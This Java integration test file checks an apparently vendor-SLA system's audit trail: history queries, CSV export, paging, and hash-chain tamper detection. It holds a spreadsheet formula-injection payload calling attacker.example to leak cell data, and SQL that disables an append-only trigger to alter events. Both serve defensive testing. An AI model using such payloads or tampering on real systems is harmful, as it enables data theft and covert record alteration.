package com.vendorsla.standalone.audit;

import com.vendorsla.sharedkernel.common.AuditMetadata;
import com.vendorsla.standalone.support.StandaloneHttpTest;
import org.axonframework.eventhandling.GenericDomainEventMessage;
import org.axonframework.eventsourcing.eventstore.EventStore;
import org.axonframework.messaging.MetaData;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.annotation.DirtiesContext;
import tools.jackson.databind.JsonNode;

import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 6 (audit) and issue 3 (history) as an auditor meets them: who did what, when and why, as JSON and as CSV,
 * and proof that the stored record was not altered, removed or reordered.
 */
@DirtiesContext
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class AuditHttpTest extends StandaloneHttpTest {

    static final String COLUMNS = "globalIndex,aggregateId,aggregateType,sequence,type,typeName,revision,occurredAt,"
            + "recordedAt,actor,role,actingVendorId,correlationId,causationId,reason,eventId,chainHash,payload,importId,sourceId";

    /** An event of a performance period, as the period aggregate will append them (the audit is generic). */
    record PeriodNoted(String periodId, String note, Instant occurredAt) {
    }

    @Autowired
    EventStore eventStore;

    private String vendor(String name, String... headers) {
        return write("manager", "/api/vendors", "{\"name\":\"" + name + "\"}", headers);
    }

    private String draft(String vendorId, String... headers) {
        return write("manager", "/api/agreements", """
                {"vendorId": "%s", "title": "Core hosting, \\"gold\\" tier", "type": "SERVICE_BASED",
                 "customer": "Finance IT", "effectiveFrom": "2026-01-01",
                 "terms": {"currency": "EUR", "monthlyCharge": "100000.00",
                   "coverage": {"timeZone": "UTC", "hours": "24x7"},
                   "serviceLevels": [{"id": "availability", "name": "Platform availability", "kind": "AVAILABILITY",
                     "target": "99.9", "classification": "CRITICAL", "allocationPercent": "50"}],
                   "creditPolicy": {"method": "POOL", "atRiskPercent": "10", "poolPercent": "150"},
                   "renegotiationWindowDays": 90}}""".formatted(vendorId), headers);
    }

    /** Appends events to an aggregate as another writer of the shared store would, with the audit metadata. */
    private void append(String type, String aggregateId, long fromSequence, int count, String actor) {
        List<GenericDomainEventMessage<?>> events = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            long sequence = fromSequence + i;
            events.add(new GenericDomainEventMessage<>(type, aggregateId, sequence,
                    new PeriodNoted(aggregateId, "note " + sequence, Instant.parse("2026-02-10T08:00:00Z").plusSeconds(sequence)),
                    MetaData.from(Map.of(AuditMetadata.ACTOR, actor, AuditMetadata.ROLE, "LEGAL",
                            AuditMetadata.TRACE_ID, "trace-" + aggregateId, AuditMetadata.CAUSATION_ID, "cmd-" + sequence,
                            AuditMetadata.REASON, "measured, \"by hand\""))));
        }
        eventStore.publish(events);
    }

    private JsonNode history(String path, long minVersion) {
        Reply reply = get("auditor", path + (path.contains("?") ? "&" : "?") + "minVersion=" + minVersion);
        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        return reply.json();
    }

    private static List<String> types(JsonNode events) {
        List<String> types = new ArrayList<>();
        events.forEach(event -> types.add(event.get("aggregateId").asText().substring(0, 3) + ":"
                + event.get("sequence").asLong() + ":" + event.get("type").asText()));
        return types;
    }

    @Test
    void anAuditorReadsAnAgreementsHistoryWithItsPeriods_filtersIt_andExportsTheSameEventsAsCsv() throws Exception {
        String vendorId = vendor("Acme Hosting", "X-Comment", "onboarding after the \"RFP\", round 2");
        String agreementId = draft(vendorId, "X-Correlation-Id", "req-audit-1", "X-Comment", "first draft");
        String uuid = agreementId.substring(4);
        Thread.sleep(5);
        Instant beforePeriods = Instant.now();
        Thread.sleep(5);
        append("PerformancePeriod", "prd-" + uuid + "-2026-02", 0, 2, "legal");
        append("PerformancePeriod", "prd-" + UUID.randomUUID() + "-2026-02", 0, 1, "legal");

        JsonNode history = history("/api/agreements/" + agreementId + "/history", 0);
        await(() -> get("auditor", "/api/agreements/" + agreementId + "/history").json().size() == 3);
        history = get("auditor", "/api/agreements/" + agreementId + "/history").json();

        assertThat(types(history)).containsExactly("agr:0:AgreementDrafted", "prd:0:PeriodNoted", "prd:1:PeriodNoted");
        JsonNode drafted = history.get(0);
        assertThat(drafted.get("aggregateId").asText()).isEqualTo(agreementId);
        assertThat(drafted.get("actor").asText()).isEqualTo("manager");
        assertThat(drafted.get("role").asText()).isEqualTo("VENDOR_MANAGER");
        assertThat(drafted.get("correlationId").asText()).isEqualTo("req-audit-1");
        assertThat(drafted.get("causationId").asText()).isNotBlank().isNotEqualTo("req-audit-1");
        assertThat(drafted.get("reason").asText()).isEqualTo("first draft");
        assertThat(drafted.get("occurredAt").asText()).isEqualTo(drafted.get("payload").get("occurredAt").asText());
        assertThat(Instant.parse(drafted.get("recordedAt").asText())).isBefore(beforePeriods);
        assertThat(drafted.get("payload").get("title").asText()).isEqualTo("Core hosting, \"gold\" tier");
        assertThat(drafted.get("payload").get("effectiveTerms").get("monthlyCharge").asText()).isEqualTo("100000.00");
        JsonNode period = history.get(2);
        assertThat(period.get("aggregateId").asText()).isEqualTo("prd-" + uuid + "-2026-02");
        assertThat(period.get("occurredAt").asText()).isEqualTo("2026-02-10T08:00:01Z");
        assertThat(period.get("reason").asText()).isEqualTo("measured, \"by hand\"");

        assertThat(types(get("auditor", "/api/agreements/" + agreementId + "/history?actor=legal").json()))
                .containsExactly("prd:0:PeriodNoted", "prd:1:PeriodNoted");
        assertThat(types(get("legal", "/api/agreements/" + agreementId + "/history?type=AgreementDrafted").json()))
                .containsExactly("agr:0:AgreementDrafted");
        assertThat(types(get("auditor", "/api/agreements/" + agreementId + "/history?type="
                + AuditHttpTest.PeriodNoted.class.getName()).json())).hasSize(2);
        assertThat(types(get("auditor", "/api/agreements/" + agreementId + "/history?from=" + beforePeriods).json()))
                .containsExactly("prd:0:PeriodNoted", "prd:1:PeriodNoted");
        assertThat(types(get("auditor", "/api/agreements/" + agreementId + "/history?to=" + beforePeriods).json()))
                .containsExactly("agr:0:AgreementDrafted");
        assertThat(types(get("auditor", "/api/agreements/" + agreementId + "/periods/2026-02/history").json()))
                .containsExactly("prd:0:PeriodNoted", "prd:1:PeriodNoted");
        assertThat(types(history("/api/vendors/" + vendorId + "/history", 0))).containsExactly("vnd:0:VendorRegistered");
        assertThat(history("/api/vendors/" + vendorId + "/history", 0).get(0).get("reason").asText())
                .isEqualTo("onboarding after the \"RFP\", round 2");

        Reply csv = get("auditor", "/api/agreements/" + agreementId + "/history", "Accept", "text/csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.header("Content-Type")).startsWith("text/csv");
        assertThat(Csv.parse(csv.body()).get(0)).containsExactly(COLUMNS.split(","));
        List<Map<String, String>> rows = Csv.rows(csv.body());
        assertThat(rows).hasSize(3);
        for (int i = 0; i < rows.size(); i++) {
            Map<String, String> row = rows.get(i);
            JsonNode event = history.get(i);
            for (String column : List.of("globalIndex", "aggregateId", "sequence", "type", "typeName", "occurredAt",
                    "recordedAt", "actor", "role", "correlationId", "causationId", "reason", "eventId", "chainHash")) {
                assertThat(row.get(column)).as("row %d %s", i, column).isEqualTo(event.get(column).asText());
            }
            assertThat(JSON.readTree(row.get("payload"))).isEqualTo(event.get("payload"));
        }
    }

    @Test
    void aSignedAndMeasuredAgreementsHistoryHoldsItsLifecycleAndPeriodEvents_withNoAuditCodePerEventType() {
        String agreementId = draft(vendor("Lifecycle Ltd"));
        write("manager", "/api/agreements/" + agreementId + "/signatures", "{\"party\":\"CUSTOMER\",\"signatory\":\"C. Buyer\"}",
                "X-Comment", "signed at the board meeting");
        write("manager", "/api/agreements/" + agreementId + "/signatures", "{\"party\":\"VENDOR\",\"signatory\":\"V. Seller\"}");
        String periodId = write("manager", "/api/agreements/" + agreementId + "/periods/2026-02/downtime", """
                {"serviceLevelId": "availability", "start": "2026-02-03T10:00:00Z", "end": "2026-02-03T10:50:00Z",
                 "cause": "VENDOR"}""");

        JsonNode periodHistory = history("/api/agreements/" + agreementId + "/periods/2026-02/history", 1);
        assertThat(periodId).isEqualTo("prd-" + agreementId.substring(4) + "-2026-02");
        assertThat(types(periodHistory)).containsExactly("prd:0:PeriodOpened", "prd:1:DowntimeRecorded");
        assertThat(periodHistory.get(1).get("payload").toString()).contains("2026-02-03T10:50:00Z");
        JsonNode history = get("auditor", "/api/agreements/" + agreementId + "/history").json();
        List<String> types = types(history);
        assertThat(types.get(0)).isEqualTo("agr:0:AgreementDrafted");
        assertThat(types).contains("agr:1:AgreementSigned").endsWith("prd:0:PeriodOpened", "prd:1:DowntimeRecorded");
        List<Long> indexes = new ArrayList<>();
        history.forEach(event -> indexes.add(event.get("globalIndex").asLong()));
        assertThat(indexes).isSorted().doesNotHaveDuplicates();
        assertThat(history.get(1).get("reason").asText()).isEqualTo("signed at the board meeting");
        assertThat(get("auditor", "/api/audit/integrity?aggregateId=" + periodId).json().get("verified").asBoolean()).isTrue();
    }

    @Test
    void unknownSubjectsAre404_andAnonymousCallersAre401() {
        assertThat(get("auditor", "/api/agreements/agr-" + UUID.randomUUID() + "/history").status()).isEqualTo(404);
        assertThat(get("auditor", "/api/agreements/not-an-id/history").status()).isEqualTo(404);
        Reply csvOfUnknown = get("auditor", "/api/vendors/vnd-" + UUID.randomUUID() + "/history", "Accept", "text/csv");
        assertThat(csvOfUnknown.status()).isEqualTo(404);
        assertThat(csvOfUnknown.header("Content-Type")).startsWith("application/problem+json");
        assertThat(get(null, "/api/audit/events").status()).isEqualTo(401);
        assertThat(get(null, "/api/audit/integrity").status()).isEqualTo(401);
    }

    @Test
    void theAuditTrailPagesInRecordingOrder_filtersByAggregateActorTypeAndTime_andExportsCsvThatParsesBack() throws Exception {
        Instant start = Instant.now();
        Thread.sleep(5);
        List<String> vendors = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            vendors.add(vendor("Paged vendor " + i + ", Ltd.", "X-Comment", "batch \"" + i + "\""));
        }
        for (String vendorId : vendors) {
            history("/api/vendors/" + vendorId + "/history", 0);
        }
        String filter = "type=VendorRegistered&actor=manager&from=" + start;

        List<Long> indexes = new ArrayList<>();
        Set<String> seen = new HashSet<>();
        for (int page = 0; page < 3; page++) {
            JsonNode reply = get("auditor", "/api/audit/events?" + filter + "&size=2&page=" + page).json();
            assertThat(reply.get("total").asLong()).isEqualTo(5);
            assertThat(reply.get("page").asInt()).isEqualTo(page);
            reply.get("events").forEach(event -> {
                indexes.add(event.get("globalIndex").asLong());
                seen.add(event.get("aggregateId").asText());
            });
        }
        assertThat(indexes).hasSize(5).isSorted().doesNotHaveDuplicates();
        assertThat(seen).containsExactlyInAnyOrderElementsOf(vendors);
        assertThat(get("legal", "/api/audit/events?aggregateId=" + vendors.get(3)).json().get("total").asLong()).isEqualTo(1);
        assertThat(get("auditor", "/api/audit/events?" + filter + "&actor=legal").json().get("total").asLong()).isZero();
        assertThat(get("auditor", "/api/audit/events?" + filter + "&to=" + start).json().get("total").asLong()).isZero();

        Reply csv = get("auditor", "/api/audit/events?" + filter, "Accept", "text/csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.header("X-Total-Count")).isEqualTo("5");
        List<Map<String, String>> rows = Csv.rows(csv.body());
        assertThat(rows).extracting(row -> Long.parseLong(row.get("globalIndex"))).containsExactlyElementsOf(indexes);
        assertThat(rows).extracting(row -> JSON.readTree(row.get("payload")).get("vendorId").asText())
                .containsExactlyInAnyOrderElementsOf(vendors);
        assertThat(rows).extracting(row -> row.get("reason")).allMatch(reason -> reason.matches("batch \"\\d\""));
        assertThat(Csv.rows(get("auditor", "/api/audit/events?" + filter + "&size=2&page=2", "Accept", "text/csv").body()))
                .hasSize(1);

        assertThat(get("auditor", "/api/audit/events?page=-1").status()).isEqualTo(400);
        assertThat(get("auditor", "/api/audit/events?size=0").status()).isEqualTo(400);
        assertThat(get("auditor", "/api/audit/events?from=yesterday").status()).isEqualTo(400);
    }

    /** Runs after the tests that read untampered chains, and before the other tampering test: it counts every chain. */
    @Test
    @Order(Integer.MAX_VALUE - 1)
    void integrityVerification_namesTheFirstBrokenLinkOfAlteredDeletedAndReorderedEvents() {
        String vendorId = vendor("Integrity Ltd");
        List<String> agreements = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            String agreementId = draft(vendorId);
            append("Agreement", agreementId, 1, 4, "legal");
            agreements.add(agreementId);
        }
        JsonNode intact = get("auditor", "/api/audit/integrity").json();
        assertThat(intact.get("verified").asBoolean()).as(intact.toString()).isTrue();
        assertThat(intact.get("events").asLong()).isGreaterThanOrEqualTo(26);
        assertThat(get("auditor", "/api/audit/integrity?aggregateId=" + agreements.get(0)).json().get("events").asLong())
                .isEqualTo(5);

        String altered = agreements.get(0);
        String middleDeleted = agreements.get(1);
        String lastDeleted = agreements.get(2);
        String reordered = agreements.get(3);
        String emptied = agreements.get(4);
        tamper("""
                UPDATE domain_event_entry SET payload = convert_to(replace(convert_from(payload, 'UTF8'), 'note 2', 'note 9'), 'UTF8')
                WHERE aggregate_identifier = '%s' AND sequence_number = 2""".formatted(altered));
        tamper("DELETE FROM domain_event_entry WHERE aggregate_identifier = '%s' AND sequence_number = 2".formatted(middleDeleted));
        tamper("DELETE FROM domain_event_entry WHERE aggregate_identifier = '%s' AND sequence_number = 4".formatted(lastDeleted));
        tamper("""
                UPDATE domain_event_entry SET sequence_number = -1 WHERE aggregate_identifier = '%1$s' AND sequence_number = 1;
                UPDATE domain_event_entry SET sequence_number = 1 WHERE aggregate_identifier = '%1$s' AND sequence_number = 2;
                UPDATE domain_event_entry SET sequence_number = 2 WHERE aggregate_identifier = '%1$s' AND sequence_number = -1
                """.formatted(reordered));
        tamper("DELETE FROM domain_event_entry WHERE aggregate_identifier = '%s'".formatted(emptied));

        assertBroken(altered, 2, "HASH_MISMATCH");
        assertBroken(middleDeleted, 2, "EVENT_MISSING");
        assertBroken(lastDeleted, 4, "EVENT_MISSING");
        assertBroken(reordered, 1, "HASH_MISMATCH");
        assertBroken(emptied, 0, "EVENT_MISSING");

        JsonNode all = get("auditor", "/api/audit/integrity").json();
        assertThat(all.get("verified").asBoolean()).isFalse();
        assertThat(all.get("brokenAggregates").asLong()).isEqualTo(5);
        String first = agreements.stream().sorted().findFirst().orElseThrow();
        assertThat(all.get("firstBroken").get("aggregateId").asText()).isEqualTo(first);
        List<String> broken = new ArrayList<>();
        all.get("brokenLinks").forEach(link -> broken.add(link.get("aggregateId").asText() + "@" + link.get("sequence").asLong()));
        assertThat(broken).containsExactlyInAnyOrder(altered + "@2", middleDeleted + "@2", lastDeleted + "@4",
                reordered + "@1", emptied + "@0");
        assertThat(get("auditor", "/api/audit/integrity?aggregateId=" + vendorId).json().get("verified").asBoolean()).isTrue();
        assertThat(get("auditor", "/api/audit/integrity?aggregateId=agr-" + UUID.randomUUID()).status()).isEqualTo(404);
    }

    @Test
    @Order(Integer.MAX_VALUE)
    void anAgreementsIntegrityCoversItsPeriods_andNamesTheAlteredPeriodEvent() {
        String agreementId = draft(vendor("Chained Periods Ltd"));
        String uuid = agreementId.substring(4);
        String february = "prd-" + uuid + "-2026-02";
        String march = "prd-" + uuid + "-2026-03";
        append("PerformancePeriod", february, 0, 3, "legal");
        append("PerformancePeriod", march, 0, 2, "legal");
        String otherAgreementsPeriod = "prd-" + UUID.randomUUID() + "-2026-02";
        append("PerformancePeriod", otherAgreementsPeriod, 0, 1, "legal");

        JsonNode intact = get("auditor", "/api/agreements/" + agreementId + "/integrity").json();
        assertThat(intact.get("verified").asBoolean()).as(intact.toString()).isTrue();
        assertThat(intact.get("events").asLong()).isEqualTo(6);
        assertThat(intact.get("aggregates").asLong()).isEqualTo(3);

        tamper("""
                UPDATE domain_event_entry SET payload = convert_to(replace(convert_from(payload, 'UTF8'), 'note 1', 'note 7'), 'UTF8')
                WHERE aggregate_identifier = '%s' AND sequence_number = 1""".formatted(march));
        JsonNode broken = get("auditor", "/api/agreements/" + agreementId + "/integrity").json();
        assertThat(broken.get("verified").asBoolean()).isFalse();
        assertThat(broken.get("firstBroken").get("aggregateId").asText()).isEqualTo(march);
        assertThat(broken.get("firstBroken").get("sequence").asLong()).isEqualTo(1);
        assertThat(broken.get("firstBroken").get("reason").asText()).isEqualTo("HASH_MISMATCH");
        assertThat(broken.get("brokenAggregates").asLong()).isEqualTo(1);

        tamper("DELETE FROM domain_event_entry WHERE aggregate_identifier = '%s'".formatted(february));
        List<String> links = new ArrayList<>();
        get("auditor", "/api/agreements/" + agreementId + "/integrity").json().get("brokenLinks")
                .forEach(link -> links.add(link.get("aggregateId").asText() + "@" + link.get("sequence").asLong()
                        + ":" + link.get("reason").asText()));
        assertThat(links).containsExactly(february + "@0:EVENT_MISSING", march + "@1:HASH_MISMATCH");

        assertThat(get("auditor", "/api/agreements/agr-" + UUID.randomUUID() + "/integrity").status()).isEqualTo(404);
        assertThat(get("auditor", "/api/agreements/not-an-id/integrity").status()).isEqualTo(404);
        assertThat(get(null, "/api/agreements/" + agreementId + "/integrity").status()).isEqualTo(401);
    }

    @Test
    void aReasonTypedAsASpreadsheetFormula_isExportedAsTextInCsv_andExactlyInJson() throws Exception {
        String formula = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"details\")";
        String vendorId = vendor("Formula Ltd", "X-Comment", formula);
        JsonNode json = history("/api/vendors/" + vendorId + "/history", 0);
        assertThat(json.get(0).get("reason").asText()).isEqualTo(formula);

        Reply csv = get("auditor", "/api/vendors/" + vendorId + "/history", "Accept", "text/csv");
        Map<String, String> row = Csv.rows(csv.body()).get(0);
        assertThat(row.get("reason")).isEqualTo("'" + formula);
        assertThat(row.get("globalIndex")).isEqualTo(json.get(0).get("globalIndex").asText());
        assertThat(JSON.readTree(row.get("payload"))).isEqualTo(json.get(0).get("payload"));
    }

    private void assertBroken(String aggregateId, long sequence, String reason) {
        JsonNode report = get("auditor", "/api/audit/integrity?aggregateId=" + aggregateId).json();
        assertThat(report.get("verified").asBoolean()).as(report.toString()).isFalse();
        assertThat(report.get("firstBroken").get("aggregateId").asText()).isEqualTo(aggregateId);
        assertThat(report.get("firstBroken").get("sequence").asLong()).as(report.toString()).isEqualTo(sequence);
        assertThat(report.get("firstBroken").get("reason").asText()).as(report.toString()).isEqualTo(reason);
    }

    /** What a database superuser could do: switch the append-only guard off, change the store, switch it on again. */
    private void tamper(String statements) {
        jdbc.execute("ALTER TABLE domain_event_entry DISABLE TRIGGER domain_event_entry_append_only");
        try {
            for (String statement : statements.split(";")) {
                if (!statement.isBlank()) {
                    jdbc.execute(statement);
                }
            }
        } finally {
            jdbc.execute("ALTER TABLE domain_event_entry ENABLE TRIGGER domain_event_entry_append_only");
        }
    }

    private static void await(java.util.function.BooleanSupplier condition) throws InterruptedException {
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (!condition.getAsBoolean()) {
            assertThat(System.nanoTime()).as("waited 10 s").isLessThan(deadline);
            Thread.sleep(20);
        }
    }
}
